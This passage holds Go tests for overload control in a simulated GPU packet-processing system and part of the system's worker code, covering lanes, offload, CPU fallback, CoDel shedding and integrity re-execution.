			{At: 9 * simtime.Millisecond, Kind: fault.DeviceRecover, Device: 0},
		}}
		return cfg
	}

	const depth = 8
	bounded := mk()
	bounded.Overload = &overload.Config{DeviceQueueDepth: depth}
	rb := run(t, bounded)
	if rb.RejectedTasks == 0 {
		t.Error("bounded run refused no submissions during the hang")
	}
	if rb.DeviceQueueHWM > depth {
		t.Errorf("device queue HWM %d exceeds configured depth %d", rb.DeviceQueueHWM, depth)
	}
	if rb.PoolOutstanding != 0 {
		t.Errorf("bounded run leaked %d packets", rb.PoolOutstanding)
	}

	unbounded := mk()
	ru := run(t, unbounded)
	if ru.DeviceQueueHWM <= depth {
		t.Errorf("unbounded run's device queue HWM %d never exceeded %d: hang regression not exercised",
			ru.DeviceQueueHWM, depth)
	}
	if ru.RejectedTasks != 0 {
		t.Errorf("unbounded run refused %d submissions", ru.RejectedTasks)
	}
}

func TestOverloadConservationWithShedAllApps(t *testing.T) {
	// Fault-free guard over every sample application: with overload control
	// armed and shedding active, RxDelivered == TxPackets + GraphDrops +
	// ShedPackets must hold exactly after drain, the oracle must stay silent,
	// and nothing may leak.
	apps := []struct {
		name, cfgText string
		v6            bool
	}{
		{"ipv4", sprintfConfig(ipv4LBConfigTpl, "fixed=0.8"), false},
		{"ipv6", sprintfConfig(ipv6LBConfigTpl, "fixed=0.8"), true},
		{"ipsec", sprintfConfig(ipsecConfigTpl, "fixed=0.8"), false},
		{"ids", sprintfConfig(idsLBConfigTpl, "fixed=0.8"), false},
	}
	for _, app := range apps {
		t.Run(app.name, func(t *testing.T) {
			cfg := quickCfg(app.cfgText, 6e9, 64)
			if app.v6 {
				cfg.Generator = &gen.UDP6{FrameLen: 78, Flows: 1024, Seed: 1}
			}
			cfg.Overload = tightOverload()
			ck := invariant.New()
			cfg.Checker = ck
			r := run(t, cfg)

			if got := r.TxPackets + r.GraphDrops + r.ShedPackets; r.RxDelivered != got {
				t.Errorf("conservation: delivered %d != tx %d + graph drops %d + shed %d",
					r.RxDelivered, r.TxPackets, r.GraphDrops, r.ShedPackets)
			}
			if r.PoolOutstanding != 0 {
				t.Errorf("%d packets leaked", r.PoolOutstanding)
			}
			for _, v := range ck.Violations() {
				t.Errorf("invariant violation: %v", v)
			}
		})
	}
}

func TestOverloadShedBoundsTailLatency(t *testing.T) {
	// The headline robustness property: at 2x the base offered load the
	// shedder keeps p99.9 of admitted packets within 10x of the uncongested
	// 0.8x baseline, and no worse than the same overload without shedding.
	mk := func(bps float64, shed bool) Config {
		cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), bps, 64)
		cfg.Duration = 12 * simtime.Millisecond
		cfg.LatencySample = 4
		if shed {
			cfg.Overload = tightOverload()
		}
		return cfg
	}
	const base = 2e9
	baseline := run(t, mk(0.8*base, true))
	shedOn := run(t, mk(2*base, true))
	shedOff := run(t, mk(2*base, false))

	basePk := baseline.Latency.Percentile(99.9)
	onPk := shedOn.Latency.Percentile(99.9)
	offPk := shedOff.Latency.Percentile(99.9)
	if basePk <= 0 || onPk <= 0 {
		t.Fatalf("degenerate percentiles: baseline %v, shed-on %v", basePk, onPk)
	}
	if onPk > 10*basePk {
		t.Errorf("shed-on p99.9 %v exceeds 10x the 0.8x baseline %v", onPk, basePk)
	}
	if onPk > offPk {
		t.Errorf("shedding made the tail worse: %v shed-on vs %v shed-off", onPk, offPk)
	}
	if shedOn.ShedPackets == 0 {
		t.Error("2x overload shed nothing: the shedder never engaged")
	}
	if shedOn.RxBacklogHWM == 0 || shedOn.WorkerInflightHWM == 0 {
		t.Errorf("high-watermark stats missing: rx %d, inflight %d",
			shedOn.RxBacklogHWM, shedOn.WorkerInflightHWM)
	}
}

func TestOverloadGovernorEscalatesUnderSustainedLoad(t *testing.T) {
	// 3x offered load saturates the CPU side for the whole run: the governor
	// must step past Normal and the peak must be recorded in the report.
	cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), 6e9, 64)
	cfg.Overload = tightOverload()
	r := run(t, cfg)
	if r.OverloadPeak < overload.LevelTrim {
		t.Errorf("governor peak %v never left normal under 3x load", r.OverloadPeak)
	}
	if r.OverloadFinal > r.OverloadPeak {
		t.Errorf("final level %v above peak %v", r.OverloadFinal, r.OverloadPeak)
	}
}

func TestOverloadShedDeterministic(t *testing.T) {
	// Shedding decisions are part of the virtual-time event stream: two
	// identical armed runs at 2x load must digest identically.
	digest := func() string {
		cfg := quickCfg(sprintfConfig(ipsecConfigTpl, "fixed=0.8"), 4e9, 64)
		cfg.Overload = tightOverload()
		tr := trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
		cfg.Tracer = tr
		r := run(t, cfg)
		if r.ShedPackets == 0 {
			t.Fatal("2x run shed nothing: determinism test is vacuous")
		}
		return tr.Digest()
	}
	if d1, d2 := digest(), digest(); d1 != d2 {
		t.Errorf("armed runs digest differently: %s vs %s", d1, d2)
	}
}
