package core

import (
	"fmt"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/gpu"
	"nba/internal/graph"
	"nba/internal/integrity"
	"nba/internal/mempool"
	"nba/internal/netio"
	"nba/internal/offload"
	"nba/internal/overload"
	"nba/internal/packet"
	"nba/internal/sched"
	"nba/internal/simtime"
	"nba/internal/stats"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

// inflightTask tracks one submitted device task on the worker side, so the
// completion path, the completion-timeout path and a device-failure path
// can race without double-processing: whichever fires first sets done, the
// rest become no-ops.
type inflightTask struct {
	ln      *lane // the tenant lane the aggregate belongs to
	pending *offload.Pending
	task    *gpu.Task
	timer   simtime.Timer // completion timeout, zero when disabled
	// dev is the device the task was submitted to (nil for synthetic
	// epoch-rescue tasks, which are never sampled).
	dev *gpu.Device
	// shadow is the sentinel's pre-execution copy of the aggregate, non-nil
	// only when the integrity subsystem sampled this task for re-execution.
	shadow *integrity.Shadow
	// executed records that the device-side functional computation ran, so
	// a CPU fallback never re-runs it (re-encrypting IPsec packets would
	// corrupt them).
	executed bool
	// done records that the aggregate was resumed (normally or via
	// fallback); late completions of a rescued task must not touch the
	// recycled batches.
	done bool
}

// completion carries a finished (or timed-out) device task back to its
// worker's IO loop, where it is processed inside iterate's cycle
// accounting.
type completion struct {
	it       *inflightTask
	timedOut bool
}

// lane is one tenant's slice of a worker: its pipeline replica, its RX
// queues on the local ports, its offload aggregator and CoDel state, and
// every per-tenant counter, so each packet's whole journey is attributed to
// the tenant whose queue delivered it. A single-tenant run has exactly one
// lane and behaves bit-identically to the pre-tenancy worker.
type lane struct {
	tenant int32
	g      *graph.Graph
	pctx   element.ProcContext

	// active is cleared at evict commit: the lane stops being polled,
	// flushed or counted toward retirement, but stays in place (tenant
	// slots are grow-only so tenant-major queue indexing never shifts).
	active bool
	// inflightTasks counts this lane's outstanding device tasks — the
	// lane-granular side of worker.inflight, read by the epoch drain
	// predicate.
	inflightTasks int

	rxqs []*netio.RxQueue
	agg  *offload.Aggregator

	// Overload control (armed only when cfg.Overload is set).
	codel   overload.CoDel
	codelOn bool

	// Stats.
	txPackets           uint64
	txWireBytesMeasured uint64 // wire bytes transmitted inside the measurement window
	latency             stats.Hist
	recentLat           stats.Hist // since the last ALB update (bounded-latency LB)
	latencySkip         int
	offloadedPkts       uint64
	splitDropped        uint64 // packets dropped by the framework outside any element (batch alloc failure, offload misconfig)
	fallbackPkts        uint64 // packets rescued onto the CPU after a task failure/timeout
	failedTasks         uint64 // tasks completed by the device as failed
	timedOutTasks       uint64 // tasks rescued by the completion timeout
	shedPkts            uint64 // packets dropped by overload control (CoDel or admission shed)
	rejectedTasks       uint64 // device submissions refused by admission control
	quarantinedPkts     uint64 // packets discarded because sentinel re-execution disagreed with the device
}

// graphDrops sums packets dropped inside this lane's pipeline.
func (ln *lane) graphDrops() uint64 {
	total := ln.splitDropped + ln.g.DropUnrouted
	for _, n := range ln.g.Nodes {
		total += n.Dropped
	}
	return total
}

// worker is one worker thread: a replicated pipeline per tenant on its own
// core, polling its RSS RX queues in a run-to-completion IO loop (paper
// §3.2, Figure 6). Multi-tenant workers interleave their lanes under a
// share-weighted round-robin so one tenant's burst cannot monopolise the
// iteration budget.
type worker struct {
	sys    *System
	id     int // global worker ID
	socket int
	local  int // index among the socket's workers (selects RX queues)
	// localPorts / localDevs are the socket's port and device index sets,
	// kept so lanes admitted at runtime build exactly like construction-time
	// ones.
	localPorts []int
	localDevs  []int

	lanes []*lane
	// tasks tracks the outstanding submitted device tasks (bounded by
	// MaxInflightTasks), so an epoch force-rescue can route them through the
	// completion-timeout path without waiting for the device.
	tasks []*inflightTask
	// cur is the lane whose graph is executing; the Env callbacks attribute
	// transmissions, drops and offloads to it. Set before any pipeline entry
	// (injection, flush, resume).
	cur *lane
	// wrr orders lanes within each iteration by tenant share, so RX-budget
	// exhaustion rotates fairly instead of starving high-index tenants.
	wrr *sched.WRR

	pktPool   *netio.PacketPool
	batchPool *batch.Pool

	// sentinel is the integrity re-execution sampler, non-nil only when
	// cfg.Integrity is set. Its RNG stream is seeded per worker so sampling
	// decisions are deterministic and independent of other workers.
	sentinel *integrity.Sentinel

	completions  *mempool.Ring[completion]
	sockDev      *gpu.Device // first local device (admission signal), may be nil
	inflight     int         // outstanding device tasks
	inflightPkts int
	inflightHWM  int // high watermark of outstanding device tasks

	// cycles accumulates cost within the current IO-loop iteration.
	cycles    simtime.Cycles
	iterStart simtime.Time
	stopped   bool

	// iterateFn is the method value w.iterate, bound once at construction so
	// rescheduling the IO loop every iteration does not allocate a closure.
	iterateFn func()
}

func newWorker(s *System, id, socket, local int, localPorts, localDevs []int) (*worker, error) {
	w := &worker{
		sys:        s,
		id:         id,
		socket:     socket,
		local:      local,
		localPorts: localPorts,
		localDevs:  localDevs,
	}
	for t := range s.tenants {
		ln, err := w.buildLane(t)
		if err != nil {
			return nil, err
		}
		w.lanes = append(w.lanes, ln)
	}
	w.cur = w.lanes[0]
	w.wrr = sched.NewWRR(s.shareFrac)
	if len(localDevs) > 0 {
		w.sockDev = s.devices[localDevs[0]]
	}
	w.pktPool = netio.NewPacketPool(fmt.Sprintf("pkt.w%d", id), s.cfg.PacketPoolPerWorker)
	w.batchPool = batch.NewPool(fmt.Sprintf("batch.w%d", id), s.cfg.BatchPoolPerWorker)
	w.completions = mempool.NewRing[completion](256)
	if s.cfg.Integrity != nil {
		w.sentinel = integrity.NewSentinel(s.cfg.Integrity, s.newSentinelRand(id))
	}
	w.iterateFn = w.iterate
	return w, nil
}

// buildLane constructs one tenant lane exactly as construction time does, so
// a lane admitted mid-run (tenant.admit epoch commit) is indistinguishable
// from one a fresh run with that tenant set would have built. The tenant's
// parsed graph, NodeLocal rows and tenant-major RX queues must already be in
// place at index t.
func (w *worker) buildLane(t int) (*lane, error) {
	s := w.sys
	ln := &lane{tenant: int32(t), active: true}
	cctx := &element.ConfigContext{
		Socket:     w.socket,
		Worker:     w.id,
		NodeLocal:  s.nodeLocals[w.socket][t],
		NumPorts:   len(s.cfg.Topology.Ports),
		NumDevices: len(w.localDevs),
		Rand:       s.newLaneRand(w.id, int32(t)),
	}
	g, err := graph.Build(s.parsed[t], cctx, s.cfg.CostModel, *s.cfg.GraphOpts)
	if err != nil {
		return nil, fmt.Errorf("core: worker %d tenant %d: %w", w.id, t, err)
	}
	ln.g = g
	if s.cfg.Tracer != nil {
		ln.g.Tracer = s.cfg.Tracer
		ln.g.TraceNow = w.now
		ln.g.TraceActor = int32(w.id)
		ln.g.TraceTenant = int32(t)
	}
	ln.pctx = element.ProcContext{
		Worker:    w.id,
		Socket:    w.socket,
		NodeLocal: s.nodeLocals[w.socket][t],
		Rand:      cctx.Rand,
		CostScale: 1,
	}
	// Memory-bandwidth contention: mild per-extra-worker inflation
	// (paper Figure 11a's per-core droop).
	ln.pctx.CostScale = 1 + s.cfg.CostModel.MemContentionPerWorker*float64(s.cfg.WorkersPerSocket-1)
	if s.cfg.ForceRemoteMemory {
		ln.pctx.CostScale *= s.cfg.CostModel.NUMAPenalty
	}
	// Tenant-major queue carve: tenant t's queue for this worker is
	// index t*WorkersPerSocket+local on every local port.
	for _, pid := range w.localPorts {
		ln.rxqs = append(ln.rxqs, s.ports[pid].Rx[t*s.cfg.WorkersPerSocket+w.local])
	}
	ln.agg = offload.NewAggregator(s.cfg.CostModel)
	if oc := s.cfg.Overload; oc != nil && oc.CoDelTarget > 0 {
		ln.codel = overload.CoDel{Target: oc.CoDelTarget, Interval: oc.CoDelInterval}
		ln.codelOn = true
	}
	return ln, nil
}

// now returns the worker's current position in virtual time: the iteration
// start plus the cycles consumed so far this iteration.
//
//nba:hotpath
func (w *worker) now() simtime.Time {
	return w.iterStart + simtime.CyclesToTime(w.cycles, w.sys.cfg.Topology.CoreFreqHz)
}

// iterate is one run-to-completion IO loop pass: drain offload completions,
// poll each lane's RX queues in share-weighted order, run batches through
// that lane's pipeline, flush aged offload aggregates, then reschedule after
// the consumed virtual time.
//
//nba:hotpath
func (w *worker) iterate() {
	if w.stopped {
		return
	}
	cm := w.sys.cfg.CostModel
	w.iterStart = w.sys.eng.Now()
	w.cycles = 0
	for _, ln := range w.lanes {
		ln.pctx.Now = w.iterStart
	}
	didWork := false

	// 1. Offload completions.
	w.cycles += cm.CompletionPoll
	for {
		c, ok := w.completions.Pop()
		if !ok {
			break
		}
		didWork = true
		w.handleCompletion(c)
	}

	// 2. RX polling, unless backpressured by outstanding device tasks.
	// Iterations are bounded in virtual time so that very expensive
	// per-packet work (e.g. IDS over MTU frames) still yields a responsive
	// IO loop rather than multi-millisecond quanta. Lanes are visited in
	// the WRR round's order, so when the budget cuts a round short, the
	// front position — and with it the loss — rotates by tenant share.
	iterBudget := simtime.TimeToCycles(cm.MaxIterTime, w.sys.cfg.Topology.CoreFreqHz)
	backpressured := w.inflight >= w.sys.cfg.MaxInflightTasks
	if !backpressured && w.sockDev != nil && cm.MaxDeviceBacklog > 0 &&
		w.inflight > 0 && w.sockDev.Backlog() > cm.MaxDeviceBacklog {
		backpressured = true
	}
	// Backpressure propagation: a saturated bounded device queue throttles
	// RX polling, so overflow accrues in the NIC ring's head-drop accounting
	// instead of hidden interior queues.
	if !backpressured && w.sockDev != nil && w.sockDev.Saturated() {
		backpressured = true
	}
	if !backpressured {
		var burst [batch.MaxBatchSize]*packet.Packet
	polling:
		for _, t := range w.wrr.Round() {
			ln := w.lanes[t]
			if !ln.active {
				continue
			}
			w.cur = ln
			for _, q := range ln.rxqs {
				if iterBudget > 0 && w.cycles >= iterBudget {
					break polling
				}
				w.cycles += cm.RxBurstFixed
				pkts := q.Poll(w.iterStart, w.sys.cfg.IOBatchSize, w.pktPool, burst[:0])
				if len(pkts) == 0 {
					continue
				}
				didWork = true
				w.cycles += cm.RxPerPacket * simtime.Cycles(len(pkts))
				if ln.codelOn {
					pkts = w.shedSojourn(pkts)
					if len(pkts) == 0 {
						continue
					}
				}
				w.injectPackets(pkts)
			}
		}
	}

	// 3. Flush aged aggregates; on a genuinely idle pass (no work and no
	// tasks in flight) flush everything pending so low loads are not stuck
	// waiting for full aggregates. While tasks are in flight the aggregate
	// keeps growing — flushing it early would shrink device batches and
	// waste kernel-launch overhead. Lane-index order keeps the flush
	// sequence deterministic regardless of the WRR phase.
	pending := 0
	for _, ln := range w.lanes {
		if !ln.active {
			continue
		}
		w.cur = ln
		for _, p := range ln.agg.Expired(w.iterStart) {
			w.flush(p)
		}
		pending += ln.agg.PendingCount()
	}
	if !didWork && w.inflight == 0 && pending > 0 {
		for _, ln := range w.lanes {
			if !ln.active {
				continue
			}
			w.cur = ln
			for _, p := range ln.agg.TakeAll() {
				w.flush(p)
			}
		}
		didWork = true
	}

	// 4. Reschedule.
	elapsed := simtime.CyclesToTime(w.cycles, w.sys.cfg.Topology.CoreFreqHz)
	next := elapsed
	if !didWork || elapsed == 0 {
		next = cm.IdlePoll
	}
	if w.done() {
		w.stopped = true
		return
	}
	w.sys.eng.After(next, w.iterateFn)
}

// laneDrained is the epoch drain predicate for one lane: no outstanding
// device tasks or unprocessed completions, no pending aggregates, and every
// live RX queue empty. It intentionally mirrors done()'s per-lane terms.
func (w *worker) laneDrained(t int, now simtime.Time) bool {
	ln := w.lanes[t]
	if ln.inflightTasks > 0 || ln.agg.PendingCount() > 0 {
		return false
	}
	for _, q := range ln.rxqs {
		if q.Down() {
			continue
		}
		if q.Backlog(now) > 0 {
			return false
		}
	}
	return true
}

// done reports whether the worker can retire: arrivals stopped, queues
// drained, no pending aggregates or outstanding tasks on any lane.
func (w *worker) done() bool {
	if w.sys.eng.Now() < w.sys.stopTime {
		return false
	}
	if w.inflight > 0 || w.completions.Len() > 0 {
		return false
	}
	for _, ln := range w.lanes {
		// An evicted lane was drained by its epoch; stranded backlog on its
		// zero-rated queues is finalized into drop accounting at report time
		// and must not keep the worker alive.
		if !ln.active {
			continue
		}
		if ln.agg.PendingCount() > 0 {
			return false
		}
		for _, q := range ln.rxqs {
			// A queue still flapped down at the end of the run can never drain;
			// its backlog is stranded (the packets were never materialised), so
			// it must not keep the worker alive forever.
			if q.Down() {
				continue
			}
			if q.Backlog(w.sys.eng.Now()) > 0 {
				return false
			}
		}
	}
	return true
}

// injectPackets wraps received packets into computation batches and runs
// them through the current lane's pipeline.
//
//nba:hotpath
func (w *worker) injectPackets(pkts []*packet.Packet) {
	cm := w.sys.cfg.CostModel
	ln := w.cur
	for off := 0; off < len(pkts); off += w.sys.cfg.CompBatchSize {
		end := off + w.sys.cfg.CompBatchSize
		if end > len(pkts) {
			end = len(pkts)
		}
		b, err := w.batchPool.Get()
		if err != nil {
			// Batch pool exhausted: the frames are already materialised,
			// so they are dropped here (counted separately from NIC drops).
			for _, p := range pkts[off:end] {
				ln.splitDropped++
				w.pktPool.Put(p)
			}
			continue
		}
		w.cycles += cm.BatchAlloc + cm.BatchInitPerPacket*simtime.Cycles(end-off)
		for _, p := range pkts[off:end] {
			b.Add(p)
		}
		ln.g.Inject(w, &ln.pctx, b)
	}
}

// flush submits a pending aggregate of the current lane as one device task.
func (w *worker) flush(p *offload.Pending) {
	cm := w.sys.cfg.CostModel
	ln := w.cur
	w.cycles += cm.OffloadEnqueue + cm.OffloadPrePerPacket*simtime.Cycles(p.NPkts)
	dev, err := w.sys.deviceFor(w.socket, ln.tenant, p.Device)
	if err == errNoPluggedDevice {
		// Every local device is hot-unplugged: the aggregate is rescued on
		// the CPU (the hitless path), not dropped — unplug is a planned
		// reconfiguration, not a misconfiguration.
		w.rescueUnplugged(p)
		return
	}
	if err != nil {
		// No such device: treat as a misconfiguration drop of the whole
		// aggregate (exercised by failure-injection tests).
		for _, b := range p.Batches {
			b.ForEachLive(func(i int, pkt *packet.Packet) {
				ln.splitDropped++
				w.pktPool.Put(pkt)
			})
			b.Reset()
			w.batchPool.Put(b)
		}
		return
	}
	w.inflight++
	w.inflightPkts += p.NPkts
	ln.offloadedPkts += uint64(p.NPkts)
	task := &gpu.Task{
		Worker:     w.id,
		NPkts:      p.NPkts,
		H2DBytes:   p.H2DBytes,
		D2HBytes:   p.D2HBytes,
		KernelTime: p.KernelTime(cm),
		Kernels:    len(p.Chain),
	}
	it := &inflightTask{ln: ln, pending: p, task: task, dev: dev}
	task.Execute = func() {
		// Device-side functional computation (timed by the kernel model).
		// Guarded so a hung task rescheduled after recovery cannot run it a
		// second time, and a timeout-rescued task cannot touch the recycled
		// batches.
		if it.done || it.executed {
			return
		}
		it.executed = true
		for _, node := range p.Chain {
			for _, b := range p.Batches {
				node.Offloadable().ProcessOffloaded(&it.ln.pctx, b)
			}
		}
		if dev.Corrupting() && dev.CorruptCoin() {
			// Silent data corruption (DeviceCorrupt fault window): flip one
			// byte per live frame using the event's seeded pattern stream.
			// The device reports success and the results stay plausible —
			// only sentinel re-execution (or the chaos leak oracle) can tell.
			for _, b := range p.Batches {
				b.ForEachLive(func(i int, pkt *packet.Packet) {
					if n := pkt.Length(); n > 0 {
						off, pat := dev.CorruptByte(n)
						pkt.Data()[off] ^= pat
						pkt.Tainted = true
					}
				})
			}
		}
	}
	task.Complete = func(finish simtime.Time, t *gpu.Task) {
		if it.done {
			return // a late device completion after the timeout rescued it
		}
		if !w.completions.Push(completion{it: it}) {
			panic(fmt.Sprintf("core: worker %d completion ring overflow", w.id))
		}
	}
	if tt := w.sys.cfg.TaskTimeout; tt > 0 {
		// The timeout only enqueues a rescue completion: the fallback runs
		// inside the next iterate, where cycle accounting lives.
		it.timer = w.sys.eng.After(tt, func() {
			if it.done {
				return
			}
			if !w.completions.Push(completion{it: it, timedOut: true}) {
				panic(fmt.Sprintf("core: worker %d completion ring overflow", w.id))
			}
		})
	}
	if !dev.Submit(task) {
		// Admission control refused the task (bounded queue full). Undo the
		// submission accounting; below LevelShed the aggregate is rescued on
		// the CPU right here, at LevelShed it is dropped and counted as shed.
		it.timer.Cancel()
		it.done = true
		w.inflight--
		w.inflightPkts -= p.NPkts
		ln.offloadedPkts -= uint64(p.NPkts)
		ln.rejectedTasks++
		lvl := w.sys.overloadLevel(w.socket, ln.tenant)
		if lvl >= overload.LevelShed {
			if tr := w.sys.cfg.Tracer; tr != nil {
				tr.EmitT(w.now(), trace.KindOverloadShed, int32(w.id), ln.tenant, "admission",
					int64(p.NPkts), 1, int64(dev.Queued()), int64(lvl))
			}
			w.shedAggregate(p)
		} else {
			w.rescueRejected(it, lvl)
		}
		return
	}
	ln.inflightTasks++
	w.tasks = append(w.tasks, it)
	if w.inflight > w.inflightHWM {
		w.inflightHWM = w.inflight
	}
	if w.sentinel.Sample() {
		// Sentinel sampling draws one coin per *accepted* task (refused
		// submissions never reach the device, so there is nothing to
		// cross-check) and snapshots the aggregate's pre-execution state.
		it.shadow = w.sentinel.Snapshot(p.Batches)
	}
}

// rescueUnplugged runs an aggregate on the CPU because its socket has no
// plugged device left (hot-unplug re-route of last resort). The device never
// saw the task, so only the rescue is charged.
func (w *worker) rescueUnplugged(p *offload.Pending) {
	ln := w.cur
	ln.fallbackPkts += uint64(p.NPkts)
	if tr := w.sys.cfg.Tracer; tr != nil {
		tr.EmitT(w.now(), trace.KindFallback, int32(w.id), ln.tenant, "fallback",
			0, int64(p.NPkts), 3, 0)
	}
	w.execChainOnCPU(p)
	w.resumeAggregate(p)
}

// rescueLane force-drains one lane at the epoch grace deadline: every
// outstanding submitted task is routed through the completion-timeout path,
// and every pending (unsubmitted) aggregate is wrapped in a synthetic task
// and routed the same way, so the whole rescue flows through the one
// CPU-fallback path with its normal accounting. Returns the number of tasks
// and aggregates rescued; the completions drain on the worker's next
// iteration.
func (w *worker) rescueLane(ln *lane) int {
	rescued := 0
	for _, it := range w.tasks {
		if it.ln != ln || it.done {
			continue
		}
		rescued++
		if !w.completions.Push(completion{it: it, timedOut: true}) {
			panic(fmt.Sprintf("core: worker %d completion ring overflow", w.id))
		}
	}
	for _, p := range ln.agg.TakeAll() {
		rescued++
		// Synthetic in-flight accounting so handleCompletion's decrements
		// balance: the aggregate was never submitted, but it drains through
		// the same path as a timed-out task.
		it := &inflightTask{ln: ln, pending: p, task: &gpu.Task{NPkts: p.NPkts}}
		w.inflight++
		w.inflightPkts += p.NPkts
		ln.inflightTasks++
		if !w.completions.Push(completion{it: it, timedOut: true}) {
			panic(fmt.Sprintf("core: worker %d completion ring overflow", w.id))
		}
	}
	return rescued
}

// rescueRejected runs an admission-rejected aggregate on the CPU immediately
// (the refused device never saw it) and resumes its batches in the pipeline.
func (w *worker) rescueRejected(it *inflightTask, lvl overload.Level) {
	p := it.pending
	w.cur = it.ln
	it.ln.fallbackPkts += uint64(p.NPkts)
	if tr := w.sys.cfg.Tracer; tr != nil {
		tr.EmitT(w.now(), trace.KindFallback, int32(w.id), it.ln.tenant, "fallback",
			0, int64(p.NPkts), 2, int64(lvl))
	}
	w.execChainOnCPU(p)
	it.executed = true
	w.resumeAggregate(p)
}

// shedAggregate drops every live packet of a refused aggregate (overload
// shedding at LevelShed) and recycles its batches, charging the current
// lane.
func (w *worker) shedAggregate(p *offload.Pending) {
	ln := w.cur
	for _, b := range p.Batches {
		b.ForEachLive(func(i int, pkt *packet.Packet) {
			ln.shedPkts++
			w.pktPool.Put(pkt)
		})
		b.Reset()
		w.batchPool.Put(b)
	}
}

// shedSojourn applies the current lane's CoDel shedder to one polled RX
// burst: packets the control law selects are dropped before pipeline
// injection, in place, preserving arrival order of the survivors.
//
//nba:hotpath
func (w *worker) shedSojourn(pkts []*packet.Packet) []*packet.Packet {
	now := w.now()
	ln := w.cur
	kept := pkts[:0]
	var shed int64
	var maxSojourn simtime.Time
	for _, p := range pkts {
		sojourn := now - p.Arrival
		if sojourn < 0 {
			sojourn = 0
		}
		if sojourn > maxSojourn {
			maxSojourn = sojourn
		}
		if ln.codel.ShouldDrop(now, sojourn) {
			shed++
			ln.shedPkts++
			w.pktPool.Put(p)
			continue
		}
		kept = append(kept, p)
	}
	if shed > 0 {
		if tr := w.sys.cfg.Tracer; tr != nil {
			tr.EmitT(now, trace.KindOverloadShed, int32(w.id), ln.tenant, "codel",
				shed, 0, int64(maxSojourn), int64(w.sys.overloadLevel(w.socket, ln.tenant)))
		}
	}
	return kept
}

// handleCompletion postprocesses a finished, failed or timed-out device
// task and resumes the batches in its lane's pipeline (after a CPU fallback
// when the device never ran them).
//
//nba:hotpath
func (w *worker) handleCompletion(c completion) {
	it := c.it
	if it.done {
		return // duplicate: the task was already resumed via another path
	}
	it.done = true
	it.timer.Cancel()
	p := it.pending
	w.cur = it.ln
	w.inflight--
	w.inflightPkts -= p.NPkts
	it.ln.inflightTasks--
	// Drop the task from the tracked set (swap-delete; the set is bounded
	// by MaxInflightTasks). Synthetic rescue tasks are never in it.
	for i, t := range w.tasks {
		if t == it {
			w.tasks[i] = w.tasks[len(w.tasks)-1]
			w.tasks[len(w.tasks)-1] = nil
			w.tasks = w.tasks[:len(w.tasks)-1]
			break
		}
	}
	if it.shadow != nil {
		sh := it.shadow
		it.shadow = nil
		if !it.executed {
			// The device never ran the computation (failed/hung rescue):
			// there is nothing to cross-check, and the CPU fallback below
			// recomputes from scratch anyway.
			w.sentinel.Release(sh)
		} else if !w.verifyAggregate(it, sh) {
			w.quarantineAggregate(it)
			return
		}
	}
	if c.timedOut || it.task.Failed {
		w.fallback(it, c.timedOut)
	}
	w.resumeAggregate(p)
}

// verifyAggregate re-executes a sampled aggregate's device-side computation
// on the CPU over the sentinel's pre-execution shadow copy and compares
// result digests against what the device produced. The re-execution is
// charged at the honest CPU element cost, so sentinel sampling carries a real
// throughput price. The observation (and any escalation it triggers) is
// reported to the system's per-device corruption tracker.
func (w *worker) verifyAggregate(it *inflightTask, sh *integrity.Shadow) bool {
	cm := w.sys.cfg.CostModel
	p := it.pending
	pctx := &it.ln.pctx
	var cycles simtime.Cycles
	for _, node := range p.Chain {
		cost := cm.ElementCostOf(node.Elem.Class())
		for _, b := range sh.Batches() {
			b.ForEachLive(func(i int, pkt *packet.Packet) {
				cycles += cost.Cycles(pkt.Length())
			})
		}
	}
	if pctx.CostScale != 0 && pctx.CostScale != 1 {
		cycles = simtime.Cycles(float64(cycles) * pctx.CostScale)
	}
	w.cycles += cycles
	match := w.sentinel.Verify(sh, func(b *batch.Batch) {
		for _, node := range p.Chain {
			node.Offloadable().ProcessOffloaded(pctx, b)
		}
	})
	w.sys.noteIntegrity(w, it, match)
	return match
}

// quarantineAggregate discards every live packet of an aggregate whose
// sentinel re-execution disagreed with the device's results: nothing from it
// may reach TX or the resumed pipeline. The packets land in a dedicated
// counted drop class so end-to-end conservation still balances.
func (w *worker) quarantineAggregate(it *inflightTask) {
	p := it.pending
	ln := it.ln
	var n int64
	for _, b := range p.Batches {
		b.ForEachLive(func(i int, pkt *packet.Packet) {
			n++
			ln.quarantinedPkts++
			w.pktPool.Put(pkt)
		})
		b.Reset()
		w.batchPool.Put(b)
	}
	if tr := w.sys.cfg.Tracer; tr != nil {
		tr.EmitT(w.now(), trace.KindIntegrityQuarantine, int32(w.id), ln.tenant, it.dev.Name,
			int64(it.task.ID), n, 0, int64(it.dev.TraceActor))
	}
}

// resumeAggregate postprocesses a completed aggregate and resumes its
// batches in the current lane's pipeline (shared by the normal completion,
// fallback and admission-rescue paths).
//
//nba:hotpath
func (w *worker) resumeAggregate(p *offload.Pending) {
	cm := w.sys.cfg.CostModel
	ln := w.cur
	w.cycles += cm.OffloadPostPerPacket * simtime.Cycles(p.NPkts)
	head := p.Head
	for _, b := range p.Batches {
		// Release packets the device-side function marked for drop, then
		// clear results for the resumed pipeline segment.
		for i := 0; i < b.Count(); i++ {
			if b.IsMasked(i) {
				continue
			}
			if b.Result(i) == batch.ResultDrop {
				w.pktPool.Put(b.Packet(i))
				b.Mask(i)
				head.Dropped++ //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
				continue
			}
			b.SetResult(i, 0)
		}
		ln.g.RunFrom(w, &ln.pctx, p.Resume, b)
	}
}

// fallback rescues an aggregate whose device task failed or timed out: the
// chain's device-side computation is re-executed on the CPU via the same
// ProcessOffloaded host closures, charged at the honest CPU per-packet
// element cost. If the device already ran the computation (it failed after
// the kernel, or a hung task's kernel had finished), the results are valid
// and only the rescue is counted.
func (w *worker) fallback(it *inflightTask, timedOut bool) {
	p := it.pending
	ln := it.ln
	if timedOut {
		ln.timedOutTasks++
	} else {
		ln.failedTasks++
	}
	ln.fallbackPkts += uint64(p.NPkts)
	if tr := w.sys.cfg.Tracer; tr != nil {
		reason := int64(0)
		if timedOut {
			reason = 1
		}
		tr.EmitT(w.now(), trace.KindFallback, int32(w.id), ln.tenant, "fallback",
			int64(it.task.ID), int64(p.NPkts), reason, 0)
	}
	if it.executed {
		return
	}
	it.executed = true
	w.execChainOnCPU(p)
}

// execChainOnCPU re-executes an aggregate's device-side computation on the
